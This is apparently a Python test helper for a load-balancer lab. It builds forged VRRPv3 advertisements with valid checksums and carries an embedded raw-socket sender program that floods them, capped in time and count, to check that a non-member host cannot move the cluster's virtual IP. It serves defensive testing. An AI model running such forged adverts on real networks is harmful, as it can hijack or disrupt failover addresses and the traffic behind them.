"""Forged VRRP adverts, to prove that only the cluster's own members can move the VIP.

An attacker (or a misconfigured router) on the segment that sends adverts with our virtual
router id and a higher priority than the master's would make the master step down and the VIP
follow the adverts. The test sends such adverts *from a lab host that is not a load balancer*
and checks that the VIP does not move.

``advert()`` builds a VRRPv3 advert (RFC 5798, section 5) including its checksum, which for
version 3 covers an IPv4 pseudo-header; ``SENDER`` is a self-contained Python program run inside
a lab host (its python3, a raw socket for IP protocol 112, TTL 255 as VRRP requires), bounded in
count and time. Pure functions here; no lab access.
"""

from __future__ import annotations

import socket
import struct

VRRP_PROTO = 112
VRRP_MULTICAST = "224.0.0.18"


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(vrid: int, priority: int, addresses: list[str], src: str, dst: str,
           interval_cs: int = 10) -> bytes:
    """One VRRPv3 advert for IPv4: version 3, type 1 (advertisement)."""
    if not (1 <= vrid <= 255 and 0 <= priority <= 255 and 1 <= interval_cs <= 4095):
        raise ValueError(f"vrid {vrid}, priority {priority}, interval {interval_cs} out of range")
    body = struct.pack("!BBBBH", 0x31, vrid, priority, len(addresses), interval_cs & 0x0FFF)
    addrs = b"".join(socket.inet_aton(a) for a in addresses)
    length = len(body) + 2 + len(addrs)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, VRRP_PROTO, length)
    csum = _checksum(pseudo + body + b"\0\0" + addrs)
    return body + struct.pack("!H", csum) + addrs


# Runs inside a lab host: python3 -c SENDER <src> <vrid> <priority> <seconds> <interval_s> <vip> <dst>...
# Kept free of imports from this package (the host has only the standard library).
SENDER = r"""
import socket, struct, sys, time
src, vrid, prio, seconds, interval, vip = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
dsts = sys.argv[7:]
def csum(d):
    if len(d) % 2: d += b"\0"
    t = sum(struct.unpack("!%dH" % (len(d) // 2), d))
    while t >> 16: t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF
def advert(dst):
    body = struct.pack("!BBBBH", 0x31, vrid, prio, 1, int(round(interval * 100)) & 0x0FFF)
    addr = socket.inet_aton(vip)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 112, len(body) + 2 + len(addr))
    return body + struct.pack("!H", csum(pseudo + body + b"\0\0" + addr)) + addr
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
sent, end = 0, time.monotonic() + min(seconds, 60.0)
while time.monotonic() < end and sent < 100000:
    for d in dsts:
        s.sendto(advert(d), (d, 0))
        sent += 1
    time.sleep(interval)
print(sent)
"""


def sender_argv(src: str, vrid: int, priority: int, seconds: float, vip: str, targets: list[str],
                interval: float = 0.05) -> list[str]:
    """The command that sends forged adverts from a lab host (bounded to 60 s)."""
    return ["python3", "-c", SENDER, src, str(vrid), str(priority), str(seconds), str(interval), vip, *targets]
